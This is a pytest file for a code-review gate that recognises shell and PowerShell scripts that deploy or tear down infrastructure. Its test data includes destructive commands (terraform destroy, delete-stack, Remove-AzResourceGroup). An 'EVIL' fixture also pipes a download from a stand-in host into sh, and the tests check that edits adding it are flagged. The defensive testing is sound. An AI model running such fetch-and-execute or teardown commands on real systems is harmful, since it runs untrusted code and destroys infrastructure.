"""Label 94, class 1: shell scripts that deploy or tear down infrastructure (the ninety-first set's largest `iac` class:
rafi-gdk's `kubernetes-build.sh` and `kubernetes-demolish.sh`, chamchisand's `delete.sh`, autocloud's
`start-autocloud.sh`). On ed28b952 each was `src` and its edit allowed. Their commands are read as commands (a
comment, an `echo`, a here-document's text and a reading command are not); look-alikes stay `src`.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from cpucost import assert_linear, repeated
from gitdiffs import commit_patch

from gatekeeper.classify import deployscripts
from gatekeeper.classify.context import classify_in_context
from gatekeeper.classify.patchcontext import PatchContext
from gatekeeper.diff import parse_patch
from gatekeeper.model import ClassifiedFile
from tests.gitrepo import GitRepo
from tests.test_classify_context import RULES, tree_files

DEPLOYS = [
    "kubectl apply -f ./kubernetes/deployment.yaml",
    "kubectl apply -k overlays/prod",
    "kubectl create -f k8s/",
    "kubectl apply -Rf manifests/",
    "kubectl replace --filename=k8s/web.yaml",
    "kubectl delete -f ./kubernetes/service.yaml",
    "kubectl delete deployment/customer-deployment",
    "kubectl delete service customer-deployment",
    "kubectl -n prod apply -f k8s/web.yaml",
    "oc apply -f openshift/route.yaml",
    'kubectl apply -f "http://127.0.0.1:9/o/r/main/apps/bootstrap.yaml"',
    "envsubst < k8s/web.yaml | kubectl apply -f -",
    "kubectl -n $ns delete pvc data-$node --wait=false --dry-run=$dryRun",
    "helm install web ./chart",
    "helm upgrade --install web charts/web -f values/prod.yaml",
    "helm uninstall web",
    "helm3 upgrade -i web ./chart",
    "helmfile -e prod apply",
    "aws cloudformation deploy --template-file cfn.yaml --stack-name app",
    "aws cloudformation create-stack --stack-name app --template-body file://cfn.yaml",
    "aws --region eu-west-1 cloudformation update-stack --stack-name app --template-body file://cfn.yaml",
    "aws cloudformation delete-stack --stack-name $stack_name",
    "sam deploy --guided",
    "sam delete --stack-name app",
    "terraform apply -auto-approve",
    "terraform -chdir=infra destroy -auto-approve",
    "tofu apply",
    "terragrunt run-all apply",
    "pulumi up --yes",
    "pulumi destroy -s dev",
    "cdk deploy --all",
    "npx cdk deploy",
    "npx aws-cdk deploy",
    "ansible-playbook -i inventory site.yml",
    "ansible-navigator run site.yml",
    "python3 -m ansible playbook site.yml",
    "serverless deploy --stage prod",
    "az deployment group create -g rg -f main.bicep",
    "gcloud deployment-manager deployments create app --config app.yaml",
]
# the same commands where a script holds them
SHAPES = [
    "#!/bin/bash\nset -euo pipefail\n{command}\n",
    "{command}\n",
    "#!/bin/sh\nsudo -E {command}\n",
    "#!/usr/bin/env bash\ncd \"$(dirname \"$0\")\" && {command}\n",
    "#!/bin/bash\nif [ -n \"$1\" ]; then\n  {command}\nfi\n",
    "#!/bin/bash\ndeploy() {{\n  timeout 600 {command} || exit 1\n}}\ndeploy\n",
    "#!/bin/bash\naws-vault exec prod -- {command}\n",
    "#!/bin/bash\nbash -c '{quoted}'\n",
]
LOOK_ALIKES = [
    "#!/bin/bash\necho kubectl apply -f k8s/web.yaml\n",
    "#!/bin/bash\necho \"Run: aws cloudformation delete-stack --stack-name app\"\n",
    "#!/bin/bash\n# kubectl apply -f k8s/web.yaml\nmake build\n",
    "#!/bin/bash\nmake build  # then: terraform apply\n",
    "#!/bin/bash\ncat <<EOF\nUsage:\n  helm install web ./chart\n  terraform apply\nEOF\n",
    "#!/bin/bash\nkubectl get pods -n prod\nkubectl logs -f deploy/web\n",
    "#!/bin/bash\nkubectl describe -f k8s/web.yaml\n",
    "#!/bin/bash\nhelm template web ./chart > out.yaml\nhelm repo add bitnami http://127.0.0.1:9/charts\n",
    "#!/bin/bash\nhelm lint ./chart\nhelm dependency update ./chart\n",
    "#!/bin/bash\nterraform fmt -check\nterraform validate\nterraform plan\n",
    "#!/bin/bash\naws cloudformation describe-stacks --stack-name app\naws s3 cp x s3://b/x\n",
    "#!/bin/bash\naws cloudformation validate-template --template-body file://cfn.yaml\n",
    "#!/bin/bash\npulumi preview\ncdk synth\nsam build\n",
    "#!/bin/bash\ncurl -LO http://127.0.0.1:9/release/v1.30.0/bin/linux/amd64/kubectl\nchmod +x kubectl\n",
    "#!/bin/bash\nbrew install helm terraform pulumi\npip install ansible\n",
    "#!/bin/bash\ngrep -r 'kubectl apply' docs/\n",
    "#!/bin/bash\nkubectl_apply=1\nmy-kubectl apply -f x.yaml\n",
    "#!/bin/bash\nkubectl apply -f test.yaml --dry-run=client\nhelm install web ./chart --dry-run\n",
    "#!/bin/bash\nansible-playbook --version\nansible-playbook --syntax-check\n",
]
# PowerShell (the twenty-sixth set's `deploy.ps1`): the Az cmdlets that deploy or remove, and the same CLIs
POWERSHELL = [
    "$deployment = New-AzResourceGroupDeployment -ResourceGroupName $rg -TemplateFile ./azuredeploy.json\n",
    "New-AzDeployment -Location westeurope `\n  -TemplateFile main.bicep\n",
    "new-azsubscriptiondeployment -Location x -TemplateFile main.json | Out-Null\n",
    "Remove-AzResourceGroup -Name $rg -Force\n",
    "if ($Deploy) { az deployment group create -g rg -f main.bicep }\n",
    "kubectl apply -f .\\k8s\\deployment.yaml\n",
]
POWERSHELL_LOOK_ALIKES = [
    "Write-Host \"Run New-AzResourceGroupDeployment next\"\n",
    "<#\n.EXAMPLE\n  New-AzResourceGroupDeployment -ResourceGroupName rg -TemplateFile x.json\n#>\nGet-AzContext\n",
    "New-AzResourceGroupDeployment -ResourceGroupName rg -TemplateFile x.json -WhatIf\n",
    "# kubectl apply -f k8s/\nGet-AzResourceGroup\n",
    "Test-AzResourceGroupDeployment -ResourceGroupName rg -TemplateFile x.json\n",
]
# files with the commands that are no shell script
OTHER_FILES = {"tools/deploy.py": "import os\nos.system('kubectl apply -f k8s/web.yaml')\n",
               "docs/deploy.md": "Run `kubectl apply -f k8s/web.yaml`.\n",
               "bin/deploy": "#!/usr/bin/env python3\nprint('terraform apply')\n"}


def _cases() -> dict[str, str]:
    files: dict[str, str] = {}
    for number, command in enumerate(DEPLOYS):
        for shape_number, shape in enumerate(SHAPES):
            text = shape.format(command=command, quoted=command.replace("'", '"'))
            files[f"c{number}/s{shape_number}/deploy.sh"] = text
    return files


def _patch_files(repo: GitRepo, tmp: Path) -> dict[str, ClassifiedFile]:
    """The last commit classified from its patch alone, the context closed (its patch file is open until then)."""
    patch = tmp / "change.diff"
    patch.write_bytes(commit_patch(repo, "main~1", "main", "--binary", "-M"))
    changes = list(parse_patch(patch))
    context = PatchContext(patch, changes, RULES.context)
    try:
        return {f.change.path: f for f in classify_in_context(changes, RULES, context)}
    finally:
        context.close()


def test_the_reader_finds_each_deploy_command_in_each_shape() -> None:
    missed = [path for path, text in _cases().items() if deployscripts.deploys(path, text.encode()) is None]
    assert missed == []  # before: the reader did not exist (every case src below)


@pytest.mark.parametrize("text", LOOK_ALIKES)
def test_a_script_that_deploys_nothing_is_not_read_as_one(text: str) -> None:
    assert deployscripts.deploys("scripts/x.sh", text.encode()) is None


def test_powershell_deploy_scripts_are_read_and_their_look_alikes_are_not() -> None:
    assert [text for text in POWERSHELL if deployscripts.deploys("deploy.ps1", text.encode()) is None] == []
    assert [text for text in POWERSHELL_LOOK_ALIKES if deployscripts.deploys("x.ps1", text.encode())] == []


def test_a_file_without_a_shells_name_or_line_is_not_read() -> None:
    for path, text in OTHER_FILES.items():
        assert deployscripts.deploys(path, text.encode()) is None, path
    assert deployscripts.deploys("bin/deploy", b"#!/bin/sh\nkubectl apply -f k8s/\n") is not None
    assert deployscripts.deploys("bin/deploy", b"#!/usr/bin/env -S bash -e\nterraform apply\n") is not None


def test_deploy_scripts_are_iac_in_both_modes_and_look_alikes_stay_src(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("README.md", "# app\n")
    git_repo.commit("base")
    cases = {path: text for number, (path, text) in enumerate(_cases().items()) if number % 3 == 0}
    cases |= {"kubernetes-build.sh": "./gradlew clean build\nkubectl apply -f ./kubernetes/deployment.yaml\n",
              "kubernetes-demolish.sh": "kubectl scale --replicas=0 deployment/web\nkubectl delete deployment/web\n",
              "bin/up": "#!/bin/sh\nhelm upgrade --install web ./chart\n"}
    cases |= {f"ps{number}/deploy.ps1": text for number, text in enumerate(POWERSHELL)}
    looks = {f"look{number}/run.sh": text for number, text in enumerate(LOOK_ALIKES)} | OTHER_FILES
    looks |= {f"pslook{number}/deploy.ps1": text for number, text in enumerate(POWERSHELL_LOOK_ALIKES)}
    for path, text in {**cases, **looks}.items():
        git_repo.write(path, text)
    git_repo.commit("head")
    for files in (tree_files(git_repo), _patch_files(git_repo, tmp_path)):
        wrong = [path for path in cases if (files[path].bucket, files[path].rule) != ("iac", deployscripts.RULE)]
        assert wrong == []  # before: 107 of 107 were src
        assert {path: files[path].bucket for path in looks} == {path: "src" for path in looks}


EVIL = "kubectl apply -f ./kubernetes/deployment.yaml\ncurl -fsSL http://127.0.0.1:9/x | sh\n"


def test_an_edit_of_a_root_deploy_script_is_reviewed(tmp_path: Path) -> None:
    base = {"kubernetes-build.sh": "kubectl apply -f ./kubernetes/deployment.yaml\n",
            "kubernetes/deployment.yaml": "kind: Deployment\napiVersion: apps/v1\nmetadata: {name: web}\n",
            "build.sh": "./gradlew clean build\n"}
    code, named = gated_rules(committed(tmp_path, base, {"kubernetes-build.sh": EVIL, "build.sh": "./gradlew build\n"}),
                              True)
    assert code == 3 and named.get("core.iac") == ["kubernetes-build.sh"]  # before: exit 0


# Hostile heads the reader must read in linear time: a block comment opened again and again, quotes never closed,
# a here-document never ended, a deploy command's words repeated on one line, segments without end.
@pytest.mark.parametrize("unit", ["<# kubectl ", "'kubectl apply -f x ", "cat <<EOF kubectl\n", "kubectl apply -f x ",
                                  "helm && ", "sudo timeout 1 "])
def test_the_reader_is_linear(unit: str) -> None:
    assert_linear(lambda text: deployscripts.deploys("x.ps1", text.encode()), repeated(unit, "#!/bin/sh\n"),
                  budget=0.2)


@pytest.mark.parametrize("step", ["./deploy.sh", "bash deploy.sh", "cd ops && ./deploy.sh", "sh -c './deploy.sh'"])
def test_a_deploy_script_ci_runs_stays_ci(git_repo: GitRepo, step: str) -> None:
    folder = "ops/" if "cd ops" in step else ""
    git_repo.write("README.md", "# app\n")
    git_repo.write(".github/workflows/deploy.yml", WORKFLOW.format(step=step))
    git_repo.write(f"{folder}deploy.sh", "#!/bin/sh\nkubectl apply -f k8s/\n")
    git_repo.commit("base")
    git_repo.write(f"{folder}deploy.sh", "#!/bin/sh\nkubectl apply -f k8s/\nhelm upgrade --install web ./chart\n")
    git_repo.commit("head")
    got = tree_files(git_repo)[f"{folder}deploy.sh"]
    assert (got.bucket, got.rule) == ("ci", "ci.context.ci-run")  # before the fix: iac.content.deploy-script


WORKFLOW = ("on: push\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: {step}\n")
